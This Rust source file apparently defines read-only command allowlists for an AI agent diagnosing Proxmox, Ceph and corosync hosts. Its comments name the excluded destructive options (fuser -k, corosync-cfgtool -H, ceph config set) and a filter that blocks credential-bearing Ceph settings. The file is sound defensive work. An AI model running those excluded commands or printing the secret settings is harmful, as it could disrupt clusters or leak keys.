//! Diagnostics the agent reaches for on a Proxmox host that the other
//! families do not cover (Debian 12 bookworm: psmisc 23.6, util-linux
//! 2.38.1, e2fsprogs 1.47.0, systemd 252, iproute2 6.1; Proxmox VE 8/9's
//! corosync 3, Ceph 17/18, proxmox-kernel-helper). Each program's default
//! action only reads, and the tables leave out every option or subcommand
//! that changes anything (`fuser -k`, `losetup` attaching, `tune2fs` other
//! than `-l`, `blockdev --set*`, `corosync-cfgtool -H`).

use super::*;

/// pstree(1), psmisc 23.6: a tree of processes.
const PSTREE: Spec = Spec {
    flags: "aAcglhnpsStTuUZV",
    valued: "CHN",
    long: &[
        "arguments",
        "ascii",
        "compact-not",
        "show-pgids",
        "vt100",
        "highlight-all",
        "long",
        "numeric-sort",
        "show-parents",
        "ns-changes",
        "thread-names",
        "hide-threads",
        "uid-changes",
        "unicode",
        "security-context",
        "version",
    ],
    long_valued: &["color", "highlight-pid", "ns-sort"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// pmap(1), procps-ng 4.0.2: a process's memory map (`/proc/PID/maps`
/// and `smaps`: addresses, sizes and the files mapped, never the memory
/// itself). Not `-n`/`-N` (they write a configuration file), nor `-c`/`-C`.
const PMAP: Spec = Spec {
    flags: "xXdqphV",
    valued: "A",
    long: &[
        "extended",
        "device",
        "quiet",
        "show-path",
        "help",
        "version",
    ],
    long_valued: &["range"],
    operands: Operands::Read,
    ..Spec::GNU
};

/// namei(1), util-linux 2.38.1: a path's components and their modes.
const NAMEI: Spec = Spec {
    flags: "hlmnovxV",
    long: &[
        "help",
        "long",
        "modes",
        "mountpoints",
        "nosymlinks",
        "owners",
        "version",
        "vertical",
    ],
    ..Spec::GNU
};

/// losetup(8), util-linux 2.38.1: listing only (a second operand
/// attaches a file; `-d`, `-D`, `-f`, `-c`, `-P`, `-r` set things up).
const LOSETUP: Spec = Spec {
    flags: "alJnv",
    valued: "jO",
    long: &[
        "all",
        "list",
        "json",
        "noheadings",
        "raw",
        "verbose",
        "output-all",
        "help",
        "version",
    ],
    long_valued: &["associated", "output"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// blockdev(8), util-linux 2.38.1: the `--get*` queries and `--report`.
const BLOCKDEV: Spec = Spec {
    flags: "vqV",
    long: &[
        "getalignoff",
        "getbsz",
        "getdiscardzeroes",
        "getfra",
        "getiomin",
        "getioopt",
        "getmaxsect",
        "getpbsz",
        "getra",
        "getro",
        "getsize",
        "getsize64",
        "getss",
        "getsz",
        "report",
        "help",
        "version",
    ],
    ..Spec::GNU
};

/// tune2fs(8), e2fsprogs 1.47.0: only `-l`, which lists the superblock.
const TUNE2FS: Spec = Spec {
    flags: "l",
    operands: Operands::AtMost(1),
    ..Spec::POSIX
};

/// dumpe2fs(8), e2fsprogs 1.47.0: prints a filesystem's metadata.
const DUMPE2FS: Spec = Spec {
    flags: "bfghixV",
    valued: "o",
    ..Spec::POSIX
};

/// e2fsck(8) and fsck.ext4, e2fsprogs 1.47.0: `-n` opens read-only and
/// answers no (the rules require it); not `-p`, `-y`, `-c`, `-E`, `-z`.
const E2FSCK: Spec = Spec {
    flags: "nfvt",
    ..Spec::POSIX
};

/// fsck(8), util-linux 2.38: `-N` shows the checkers it would run, `-n`
/// is passed to them (read-only checks; the rules require one of them).
const FSCK: Spec = Spec {
    flags: "NnVTRsl",
    valued: "t",
    ..Spec::POSIX
};

/// modprobe(8), kmod 30: under `-c`, `-D`, `-n` or `-R` (the rules
/// require one), which load nothing. Not `-C` (another configuration
/// folder), `-d` (another module tree), `-S`.
const MODPROBE: Spec = Spec {
    flags: "cDnRvqarV",
    long: &[
        "showconfig",
        "show-depends",
        "dry-run",
        "resolve-alias",
        "verbose",
        "quiet",
        "all",
        "remove",
        "first-time",
        "use-blacklist",
        "version",
        "help",
    ],
    operands: Operands::Read,
    ..Spec::GNU
};

/// zramctl(8), util-linux 2.38: the zram devices, listed (not `--size`,
/// `--algorithm`, `--reset`, `--find`, which set them up or reset them).
const ZRAMCTL: Spec = Spec {
    flags: "bnr",
    valued: "o",
    long: &["bytes", "noheadings", "raw", "help", "version"],
    long_valued: &["output"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// bootctl(1), systemd 252: `status`, `list`, `is-installed` (not
/// `install`, `update`, `remove`, `set-default`, `set-oneshot`,
/// `random-seed`, `reboot-to-firmware`, `unlink`, `cleanup`).
const BOOTCTL: Spec = Spec {
    long: &[
        "no-pager",
        "no-variables",
        "print-esp-path",
        "print-boot-path",
        "help",
        "version",
    ],
    long_valued: &["esp-path", "boot-path", "json"],
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "status|list|is-installed",
            spec: None,
        }],
        bare_ok: true,
    },
    abbrev: false,
    ..Spec::GNU
};

/// grub-probe(8), GRUB 2.06: what device, filesystem or drive a path is on.
const GRUB_PROBE: Spec = Spec {
    flags: "v",
    valued: "t",
    long: &["verbose", "help", "version"],
    long_valued: &["target"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// `grub-editenv list`: the GRUB environment block's variables (not `set`,
/// `unset`, `create`; nor `list` followed by more: then `list` is the
/// file it writes; review 71).
const GRUB_EDITENV: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list",
            spec: Some(&GRUB_EDITENV_LIST),
        }],
        bare_ok: false,
    },
    ..Spec::GNU
};
const GRUB_EDITENV_LIST: Spec = Spec {
    operands: Operands::None,
    ..Spec::GNU
};

/// fuser(1), psmisc 23.6: who uses a file; not `-k` (kills), `-i`,
/// `-SIGNAL`.
const FUSER: Spec = Spec {
    flags: "amMuvws46V",
    valued: "n",
    long: &[
        "all",
        "mount",
        "ismountpoint",
        "user",
        "verbose",
        "writeonly",
        "silent",
    ],
    long_valued: &["namespace"],
    ..Spec::GNU
};

/// systemd-detect-virt(1), systemd 252.
const SYSTEMD_DETECT_VIRT: Spec = Spec {
    flags: "cvrqh",
    long: &[
        "container",
        "vm",
        "chroot",
        "quiet",
        "private-users",
        "cvm",
        "list",
        "list-cvm",
        "help",
        "version",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// systemd-analyze(1), systemd 252 (and the reports 253 to 255 add:
/// `architectures`, `pcrs`, `image-policy`): the reports (not `smbios11`:
/// SMBIOS type 11 strings carry credentials, smbios-type-11(7); review 47); not `plot`/`dot` (no
/// harm, but unusual), `--root`/`--image`, `-H`/`-M`.
const SYSTEMD_ANALYZE: Spec = Spec {
    flags: "lqh",
    long: &[
        "no-pager", "user", "system", "global", "man",
        // Not `--generators`: `verify` then runs every unit generator.
        "quiet", "help", "version",
    ],
    long_valued: &[
        "order",
        "require",
        "fuzz",
        "iterations",
        "base-time",
        "threshold",
        "offline",
    ],
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "blame|critical-chain|time|unit-files|unit-paths|exit-status|capability|\
                    syscall-filter|filesystems|condition|compare-versions|verify|calendar|\
                    timestamp|timespan|security|cat-config|dump|has-tpm2|architectures|pcrs|\
                    image-policy",
            spec: None,
        }],
        bare_ok: true,
    },
    ..Spec::GNU
};

/// bridge(8), iproute2 6.1: `show` forms of each object.
const BRIDGE: Spec = Spec {
    flags: "dsjpcn",
    long: &[
        "details",
        "stats",
        "statistics",
        "json",
        "pretty",
        "color",
        "compressvlans",
    ],
    single_dash_long: true,
    permute: false,
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "link",
                spec: Some(&SHOW_ONLY),
            },
            // (fdb, vlan and mdb by prefix, and their `s`, `l` as show
            // and list: bridge(8) checks add, del and the like first, and
            // none of them starts so; not link's, where `s` is `set`;
            // review 139.)
            Verb {
                names: "fdb|vlan|mdb|f|fd|v|vl|vla|m|md",
                spec: Some(&SHOW_ABBREVIATED),
            },
            Verb {
                names: "monitor",
                spec: Some(&BRIDGE_MONITOR),
            },
        ],
        bare_ok: true,
    },
    ..Spec::GNU
};

/// `bridge monitor [all|link|fdb|mdb|vlan|neigh|vni]`: the kernel's
/// bridge events as they come (bridge(8), iproute2 6.1), until stopped.
const BRIDGE_MONITOR: Spec = Spec {
    operands: Operands::Names {
        at_most: 1,
        test: |w| matches!(w, "all" | "link" | "fdb" | "mdb" | "vlan" | "neigh" | "vni"),
    },
    ..Spec::POSIX
};

/// `OBJECT show [dev DEV]`, `OBJECT` alone (lists).
const SHOW_ONLY: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "show|list|lst|sh|ls",
            spec: Some(&ANY_OPERANDS),
        }],
        bare_ok: true,
    },
    ..Spec::POSIX
};

/// `OBJECT s|l …` where `s` and `l` can only be `show` and `list`.
const SHOW_ABBREVIATED: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "show|list|lst|sh|ls|s|l",
            spec: Some(&ANY_OPERANDS),
        }],
        bare_ok: true,
    },
    ..Spec::POSIX
};

/// Words that only select what is shown.
const ANY_OPERANDS: Spec = Spec::POSIX;

/// corosync-cfgtool(8), corosync 3: `-s` status, `-n` nodes, `-a`
/// addresses; not `-R` (reload), `-H` (shut down), `-k` (kill a node),
/// `-r` (reset links).
const COROSYNC_CFGTOOL: Spec = Spec {
    flags: "snbih",
    valued: "a",
    ..Spec::POSIX
};

/// corosync-quorumtool(8), corosync 3: status and lists; not `-e`, `-v`,
/// `-m` monitors (harmless, but never ends).
const COROSYNC_QUORUMTOOL: Spec = Spec {
    flags: "slpiaoHh",
    ..Spec::POSIX
};

/// pg_lsclusters(1), postgresql-common: lists clusters.
const PG_LSCLUSTERS: Spec = Spec {
    flags: "hjs",
    long: &["no-header", "json", "start-conf", "help"],
    operands: Operands::None,
    ..Spec::GNU
};

/// pip(1) 23: `show`, `freeze`, `check`, `--version`, and `list` with
/// `--disable-pip-version-check` (the rules: `list` is an index command,
/// whose version check asks PyPI, outside the lab, about once a week
/// and writes its cache; pip 24.1 dropped that; review 44).
const PIP: Spec = Spec {
    long: &[
        "version",
        "help",
        "disable-pip-version-check",
        "no-color",
        "quiet",
        "verbose",
    ],
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "list|show|freeze|check",
                spec: Some(&PIP_LIST),
            },
            Verb {
                names: "cache",
                spec: Some(&PIP_CACHE),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// `pip cache dir|info|list [PATTERN] [--format=human|abspath]`: the
/// wheel cache's place, size and files (not `remove`, `purge`).
const PIP_CACHE_LEAF: Spec = Spec {
    long: &["disable-pip-version-check", "no-color", "quiet", "verbose"],
    long_valued: &["format"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

verbs_then!(PIP_CACHE, "dir|info|list", PIP_CACHE_LEAF, false);

/// Not `-o`/`--outdated`, `-u`/`--uptodate`: they ask the package index
/// (PyPI, outside the lab). pip's general options are read after the
/// subcommand too (`pip list --disable-pip-version-check`).
const PIP_LIST: Spec = Spec {
    flags: "lfvq",
    long: &[
        "user",
        "local",
        "not-required",
        "files",
        "verbose",
        "all",
        "disable-pip-version-check",
        "no-color",
        "quiet",
    ],
    long_valued: &["format"],
    ..Spec::GNU
};

/// multipath(8), multipath-tools 0.9 (`getopt` string
/// `:adDcChl::eFfM:v:p:b:BrR:itTquUwW`): which command runs is the last
/// command option's (the rule in `rules::programs::disks` reads it); bare,
/// it builds or reloads maps. Harmless to parse: listing (`-l`, `-ll`),
/// the configuration (`-t`, `-T`), a dry run, verbosity and settings. The
/// flushes, the path checks and the WWID file's edits are the others.
const MULTIPATH: Spec = Spec {
    // Not `-b FILE`: multipath opens (and creates, or rewrites) that
    // bindings file even to list (`check_alias_settings`).
    flags: "BdDehiqrtT",
    valued: "MpRv",
    optional: "l",
    other: &Other {
        flags: "acCfFuUwW",
        valued: "b",
        ..Other::NONE
    },
    ..Spec::POSIX
};

/// mokutil(1) 0.6: the Secure Boot state and the key lists, printed. Not
/// `--import`, `--delete`, `--export` (writes files), `--password`,
/// `--reset`, `--disable-validation` and the other requests for the next
/// boot, nor `--test-key FILE`.
const MOKUTIL: Spec = Spec {
    long: &[
        "sb-state",
        "list-enrolled",
        "list-new",
        "list-delete",
        "pk",
        "kek",
        "db",
        "dbx",
        "mokx",
        "help",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// proxmox-boot-tool(1): `status` and `kernel list` only.
const PROXMOX_BOOT_TOOL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "status|help",
                spec: Some(&STATUS_FLAGS),
            },
            Verb {
                names: "kernel",
                spec: Some(&BOOT_KERNEL),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
/// `proxmox-boot-tool kernel list` (not `add`, `remove`, `pin`, `unpin`).
const BOOT_KERNEL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list",
            spec: Some(&NO_WORDS),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};
const NO_WORDS: Spec = Spec {
    operands: Operands::None,
    ..Spec::ORDERED
};

const STATUS_FLAGS: Spec = Spec {
    long: &["quiet"],
    operands: Operands::None,
    ..Spec::GNU
};

/// ceph(8), Ceph 17/18: status and listings.
const CEPH: Spec = Spec {
    // (`-w`, `--watch*`: the cluster's log as it comes.)
    flags: "sw",
    long: &[
        "status",
        "watch",
        "watch-debug",
        "watch-info",
        "watch-sec",
        "watch-warn",
        "watch-error",
    ],
    valued: "f",
    // (`--cluster` only of the default name: without /etc/ceph/NAME.conf,
    // Ceph reads ./NAME.conf from the working folder; review 112.)
    long_valued: &["format", "cluster", "id", "name", "user", "connect-timeout"],
    checked: &[("cluster", |v| v == "ceph")],
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "status|health|df|versions|-s|quorum_status|mon_status|fsid",
                spec: Some(&CEPH_STATUS),
            },
            // (The monitors' report: the maps, health and placement
            // groups' state, no key; blind corpus 229.)
            Verb {
                names: "report",
                spec: Some(&CEPH_WORDS_NONE),
            },
            // (A daemon pinged, the cluster's I/O and a daemon's counters
            // as they come; review 140.)
            Verb {
                names: "ping|iostat|daemonperf",
                spec: Some(&CEPH_WORDS),
            },
            // (`progress`, `progress json`; not `progress clear`.)
            Verb {
                names: "progress",
                spec: Some(&CEPH_PROGRESS),
            },
            Verb {
                names: "osd|mon|mgr|mds|fs",
                spec: Some(&CEPH_OBJECT),
            },
            Verb {
                names: "pg",
                spec: Some(&CEPH_PG),
            },
            Verb {
                names: "crash",
                spec: Some(&CEPH_CRASH),
            },
            Verb {
                names: "balancer",
                spec: Some(&CEPH_BALANCER),
            },
            Verb {
                names: "log",
                spec: Some(&CEPH_LOG),
            },
            Verb {
                names: "device",
                spec: Some(&CEPH_DEVICE),
            },
            Verb {
                names: "time-sync-status",
                spec: Some(&CEPH_WORDS),
            },
            // (The orchestrator's daemons, services, hosts and devices;
            // not `device ls --refresh`, which has them scanned anew, nor
            // anything that applies; blind corpus 126.)
            Verb {
                names: "orch",
                spec: Some(&CEPH_ORCH),
            },
            Verb {
                names: "telemetry",
                spec: Some(&CEPH_TELEMETRY),
            },
            Verb {
                names: "config",
                spec: Some(&CEPH_CONFIG),
            },
            Verb {
                names: "config-key",
                spec: Some(&CEPH_CONFIG_KEY),
            },
            // (A daemon asked, by the monitors or its admin socket, for
            // what it reports: `ceph tell osd.4 heap stats`, `ceph daemon
            // osd.4 perf dump`; blind corpus 126.)
            Verb {
                names: "tell|daemon",
                spec: Some(&CEPH_DAEMON),
            },
        ],
        bare_ok: true,
    },
    ..Spec::GNU
};

/// crushtool(8), Ceph 18: a CRUSH map decompiled (`-d FILE`) or tested
/// (`-i FILE --test`), printed. Not `-o` (writes the map), `-c`
/// (compiles into `-o`), the edits (`--reweight`, `--add-item`,
/// `--remove-item`, `--set-*`), `--build`.
const CRUSHTOOL: Spec = Spec {
    valued: "di",
    long: &[
        "test",
        "show-statistics",
        "show-mappings",
        "show-bad-mappings",
        "show-utilization",
        "show-utilization-all",
        "show-choose-tries",
        "tree",
        "dump",
        "check",
        "help",
    ],
    long_valued: &[
        "rule", "num-rep", "min-x", "max-x", "x", "min-rep", "max-rep", "pool-id", "weight",
        "format",
    ],
    single_dash_long: true,
    operands: Operands::None,
    ..Spec::POSIX
};

/// ceph-conf(8): one setting's value as the daemons read it
/// (`--show-config-value NAME`, by a name that speaks of no credential),
/// the sections listed. Not `--show-config` with no name (every value).
const CEPH_CONF: Spec = Spec {
    flags: "L",
    valued: "nc",
    long: &["list-all-sections", "help"],
    long_valued: &[
        "name",
        "show-config-value",
        "lookup",
        "cluster",
        "conf",
        "list-sections",
    ],
    checked: &[
        ("show-config-value", ceph_setting),
        ("lookup", ceph_setting),
        ("cluster", |v| v == "ceph"),
        ("c", |v| {
            v == "/etc/ceph/ceph.conf" || v == "/etc/pve/ceph.conf"
        }),
        ("conf", |v| {
            v == "/etc/ceph/ceph.conf" || v == "/etc/pve/ceph.conf"
        }),
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// `ceph tell|daemon TARGET COMMAND`: the target any word, then only the
/// daemons' reports (Ceph 18's `help` of each daemon): not `heap release`,
/// `config set`, `injectargs`, `scrub start`, `flush_journal`,
/// `compact`, `bench` (writes through the OSD).
const CEPH_DAEMON: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "*",
            spec: Some(&CEPH_DAEMON_COMMAND),
        }],
        bare_ok: false,
    },
    ..Spec::POSIX
};

verbs_then!(CEPH_DAEMON_HEAP, "stats", CEPH_WORDS_NONE, false);
// (`perf dump [LOGGER [COUNTER]]`: one logger's counters, `perf dump
// bluestore`; blind corpus 229.)
verbs_then!(CEPH_DAEMON_PERF, "dump|schema", CEPH_PLAIN_NAMES, false);
// (An MDS's cache: `cache status`; not `cache drop`.)
verbs_then!(CEPH_DAEMON_CACHE, "status", CEPH_WORDS_NONE, false);

/// At most two plain names (a perf logger and a counter: `bluestore`,
/// `commit_lat`).
const CEPH_PLAIN_NAMES: Spec = Spec {
    operands: Operands::Names {
        at_most: 2,
        test: |w| {
            w.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
                && !w.starts_with('-')
        },
    },
    ..Spec::POSIX
};
verbs_then!(CEPH_DAEMON_LS, "ls", CEPH_WORDS_NONE, false);
verbs_then!(CEPH_DAEMON_SCRUB, "status", CEPH_WORDS_NONE, false);
verbs_then!(CEPH_DAEMON_CONFIG, "get", CEPH_ONE_NAME, false);

const CEPH_WORDS_NONE: Spec = Spec {
    operands: Operands::None,
    ..Spec::POSIX
};

/// One setting by a name that speaks of no credential (`key` is the
/// daemon's key itself; review 98).
const CEPH_ONE_NAME: Spec = Spec {
    operands: Operands::Exactly {
        count: 1,
        test: ceph_setting,
    },
    ..Spec::POSIX
};

const CEPH_DAEMON_COMMAND: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "version|mon_status|sessions|status|dump_historic_ops|\
                        dump_ops_in_flight|dump_blocked_ops|dump_historic_slow_ops|\
                        get_command_descriptions|dump_mempools|dump_osd_network|\
                        dump_watchers|dump_objectstore_kv_stats|dump_pgstate_history|\
                        dump_scrubs|dump_recovery_reservations|dump_op_pq_state|\
                        dump_reservations|objecter_requests|get_mapped_pools|ops|\
                        dump_historic_ops_by_duration|list_devices",
                spec: Some(&CEPH_WORDS_NONE),
            },
            Verb {
                names: "heap",
                spec: Some(&CEPH_DAEMON_HEAP),
            },
            Verb {
                names: "cache",
                spec: Some(&CEPH_DAEMON_CACHE),
            },
            Verb {
                names: "perf",
                spec: Some(&CEPH_DAEMON_PERF),
            },
            Verb {
                names: "session|damage",
                spec: Some(&CEPH_DAEMON_LS),
            },
            Verb {
                names: "scrub",
                spec: Some(&CEPH_DAEMON_SCRUB),
            },
            Verb {
                names: "config",
                spec: Some(&CEPH_DAEMON_CONFIG),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

// `ceph pg PGID query|list_unfound`: one placement group's state (not
// `mark_unfound_lost`, `repair`, `scrub`).
verbs_then!(CEPH_PG_ID, "query|list_unfound", CEPH_WORDS, false);
const CEPH_PG: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "tree|stat|dump|ls|dump_stuck|map|ls-by-pool|ls-by-osd|ls-by-primary|dump_json|dump_pools_json",
                spec: Some(&CEPH_WORDS),
            },
            Verb {
                names: "*",
                spec: Some(&CEPH_PG_ID),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// debsums(1), debsums 3.0: checks installed files against the
/// packages' sums (not `-g`/`--generate`, which writes sums files).
const DEBSUMS: Spec = Spec {
    flags: "aecls",
    long: &[
        "all",
        "config",
        "changed",
        "list-missing",
        "silent",
        "ignore-permissions",
        "ignore-obsolete",
        "no-locale-purge",
        "no-prelink",
        "help",
        "version",
    ],
    long_valued: &["root", "admindir", "md5sums", "ignore-conffiles"],
    valued: "",
    ..Spec::GNU
};

// `ceph crash ls|ls-new|stat`: the crash reports' ids and counts (not
// `archive`, `rm`, `prune`).
verbs_then!(CEPH_CRASH, "ls|ls-new|stat|info", CEPH_WORDS, false);
// `ceph log last [N]` (not `ceph log TEXT`, which writes to the cluster log).
verbs_then!(CEPH_LOG, "last", CEPH_WORDS, false);
// `ceph device ls|info|ls-by-host|ls-by-daemon|get-health-metrics` (not
// `set-life-expectancy`, `monitoring on|off`, `light`, nor `check-health`,
// which marks OSDs out whose devices it expects to fail: the devicehealth
// module's `mark_out_etc`; review 140).
verbs_then!(
    CEPH_DEVICE,
    "ls|info|ls-by-host|ls-by-daemon|get-health-metrics",
    CEPH_WORDS,
    false
);
// `ceph balancer status|ls|eval` (the plans and the distribution's score;
// not `on`, `off`, `mode`, `optimize`, `execute`, `rm`, `reset`).
verbs_then!(
    CEPH_BALANCER,
    "status|ls|eval|eval-verbose|show",
    CEPH_WORDS,
    false
);
// `ceph telemetry status|preview|show` (what it sends or would; not `on`,
// `send`).
// (Not `status`: every module option, a proxy's `user:pass` among them;
// nor `preview-device`, `show-device`: they store new anonymous ids in
// the mgr; review 111.)
verbs_then!(CEPH_TELEMETRY, "preview|show", CEPH_WORDS, false);

/// `ceph orch ps [HOST]|status`, `orch host ls`, `orch device ls`,
/// `orch upgrade status`. Not `orch ls`: in any format but the table it
/// prints each service's whole spec (RGW's TLS key, Grafana's and the
/// iSCSI API's passwords), and its positional words set `--export` and
/// `--refresh` (review 111).
const CEPH_ORCH: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "ps|status",
                spec: Some(&CEPH_ORCH_WORDS),
            },
            Verb {
                names: "host|device",
                spec: Some(&CEPH_ORCH_LS),
            },
            Verb {
                names: "upgrade",
                spec: Some(&CEPH_ORCH_UPGRADE),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
verbs_then!(CEPH_ORCH_LS, "ls", CEPH_ORCH_WORDS, false);
verbs_then!(CEPH_ORCH_UPGRADE, "status", CEPH_ORCH_WORDS, false);
const CEPH_ORCH_WORDS: Spec = Spec {
    long: &["detail", "wide"],
    long_valued: &[
        "format",
        "daemon-type",
        "daemon_type",
        "daemon-id",
        "daemon_id",
        "service-name",
        "service_name",
        "service-type",
        "service_type",
        "hostname",
    ],
    // (A host's name: further words fill `--refresh` positionally.)
    operands: Operands::AtMost(1),
    ..CEPH_WORDS
};

// `ceph fs subvolume|subvolumegroup ls|exist`, `fs volume ls`: names.
// Not `info`, `getpath`, `snapshot ls`: they open the subvolume, which
// upgrades a legacy or v1 one's metadata (review 111); nor `create`,
// `rm`, `resize`.
verbs_then!(CEPH_SUBVOLUME, "ls|exist", CEPH_SUBVOLUME_WORDS, false);
verbs_then!(CEPH_FS_STATUS, "status|list", CEPH_FS_STATUS_WORDS, false);
const CEPH_FS_STATUS_WORDS: Spec = Spec {
    long_valued: &["format", "group_name", "group-name", "fs", "path"],
    ..CEPH_WORDS
};
const CEPH_SUBVOLUME_WORDS: Spec = Spec {
    long_valued: &["format", "group_name", "group-name"],
    ..CEPH_WORDS
};
// `ceph osd pool ls [detail]|stats|get POOL VAR` (not `set`, `create`,
// `delete`, `rename`, `mksnap`).
// (`application get POOL`: the applications a pool is tagged for; not
// `enable`, `set`, `rm`.)
const CEPH_POOL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "ls|stats|get|autoscale-status|get-quota",
                spec: Some(&CEPH_WORDS),
            },
            Verb {
                names: "application",
                spec: Some(&CEPH_POOL_APPLICATION),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
verbs_then!(CEPH_POOL_APPLICATION, "get", CEPH_WORDS, false);
// `ceph mgr module ls` (not `enable`, `disable`).
verbs_then!(CEPH_MODULE, "ls", CEPH_WORDS, false);

/// `ceph OBJECT ls|tree|stat|dump|df` (not `auth`: `auth ls` prints
/// every key).
const CEPH_OBJECT: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                // ok-to-stop, safe-to-destroy, ok-to-rm: whether stopping
                // or removing would lose availability or data (a report).
                names: "tree|stat|dump|df|ls|versions|metadata|dump_stuck|status|ok-to-stop|safe-to-destroy|ok-to-rm|find|map|blocked-by|utilization|lspools|services|count-metadata|ls-tree|tree-from|getcrushmap|getmap",
                spec: Some(&CEPH_WORDS),
            },
            // (`osd perf` alone: the OSDs' latencies; not `osd perf query
            // add`, which registers a query on them; review 140.)
            Verb {
                names: "perf",
                spec: Some(&CEPH_FLAGS_ONLY),
            },
            // (`fs get NAME`: one file system's map; `osd
            // test-reweight-by-*`: what a reweight would do, shown.)
            Verb {
                names: "get|test-reweight-by-utilization|test-reweight-by-pg",
                spec: Some(&CEPH_WORDS),
            },
            Verb {
                names: "subvolume|subvolumegroup|volume",
                spec: Some(&CEPH_SUBVOLUME),
            },
            // (`fs snap-schedule status|list`: the schedules; blind corpus
            // 151. Not `fs clone status`: it opens the subvolume, as
            // `subvolume info` does; review 112.)
            Verb {
                names: "snap-schedule",
                spec: Some(&CEPH_FS_STATUS),
            },
            // (`osd erasure-code-profile ls|get`, `osd blocklist ls`: not
            // `set`, `rm`, `add`, `clear`; review 98.)
            Verb {
                names: "erasure-code-profile|blocklist|blacklist|feature",
                spec: Some(&CEPH_LISTING),
            },
            Verb {
                names: "pool",
                spec: Some(&CEPH_POOL),
            },
            Verb {
                names: "module",
                spec: Some(&CEPH_MODULE),
            },
            // (`osd crush tree|dump|ls|rule dump|rule ls`: the map and its
            // rules, not `crush rule create`, `crush reweight`, `crush
            // rm`; blind corpus 57.)
            Verb {
                names: "crush",
                spec: Some(&CEPH_CRUSH),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
verbs_then!(CEPH_LISTING, "ls|get", CEPH_WORDS, false);

const CEPH_CRUSH: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                // (`get-device-class OSD…`, `class ls`: device classes;
                // `weight-set ls`, `rule ls`: names; blind corpus 229.)
                names: "tree|dump|ls|show-tunables|get-device-class",
                spec: Some(&CEPH_WORDS),
            },
            Verb {
                names: "weight-set",
                spec: Some(&CEPH_LISTING),
            },
            Verb {
                names: "class",
                spec: Some(&CEPH_CRUSH_CLASS),
            },
            Verb {
                names: "rule",
                spec: Some(&CEPH_CRUSH_RULE),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
verbs_then!(CEPH_CRUSH_RULE, "dump|ls|list", CEPH_WORDS, false);
verbs_then!(CEPH_CRUSH_CLASS, "ls|ls-osd", CEPH_WORDS, false);
verbs_then!(CEPH_PROGRESS, "json", CEPH_WORDS, true);

/// `ceph config` (Ceph 18, the monitors' `config` commands): one
/// setting's value (`get WHO KEY`; `show WHO KEY`, a daemon's running
/// value), an option's help, the options' names. Not `get WHO` or `show
/// WHO` (every setting, a `key` or a password among them), `dump`, `log`
/// (the values, as set and as changed), `set`, `rm`, `assimilate-conf`,
/// `generate-minimal-conf`.
const CEPH_CONFIG: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "get|show|show-with-defaults",
                spec: Some(&CEPH_CONFIG_SETTING),
            },
            Verb {
                names: "help",
                spec: Some(&CEPH_CONFIG_HELP),
            },
            Verb {
                names: "ls",
                spec: Some(&CEPH_WORDS),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
const CEPH_CONFIG_SETTING: Spec = Spec {
    operands: Operands::Exactly {
        count: 2,
        test: ceph_setting,
    },
    ..CEPH_WORDS
};
const CEPH_CONFIG_HELP: Spec = Spec {
    operands: Operands::Names {
        at_most: 1,
        test: ceph_setting,
    },
    ..CEPH_WORDS
};
// `ceph config-key ls|exists`: the keys' names, never their values
// (`get`, `dump`: the dashboard's and RGW's credentials among them).
verbs_then!(CEPH_CONFIG_KEY, "ls|list|exists", CEPH_WORDS, false);

/// A daemon (`osd.3`, `client.rgw.pve1`, `global`) or a setting's name
/// that holds no credential (not `key`, `keyfile`, `rgw_ldap_secret`,
/// `mgr/dashboard/RGW_API_SECRET_KEY`).
fn ceph_setting(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-/".contains(&b))
        // (Nor a URL or a proxy, which may hold `user:password@`:
        // `mgr/telemetry/proxy`; review 140.)
        && ![
            "key", "secret", "pass", "token", "cred", "auth", "cert", "proxy", "url", "uri", "dsn",
        ]
        .iter()
        .any(|w| lower.contains(w))
}

/// [`CEPH_WORDS`]'s options, no operand.
const CEPH_FLAGS_ONLY: Spec = Spec {
    operands: Operands::None,
    ..CEPH_WORDS
};

const CEPH_WORDS: Spec = Spec {
    valued: "f",
    long: &["detail", "show-shadow"],
    long_valued: &["format", "max"],
    ..Spec::GNU
};

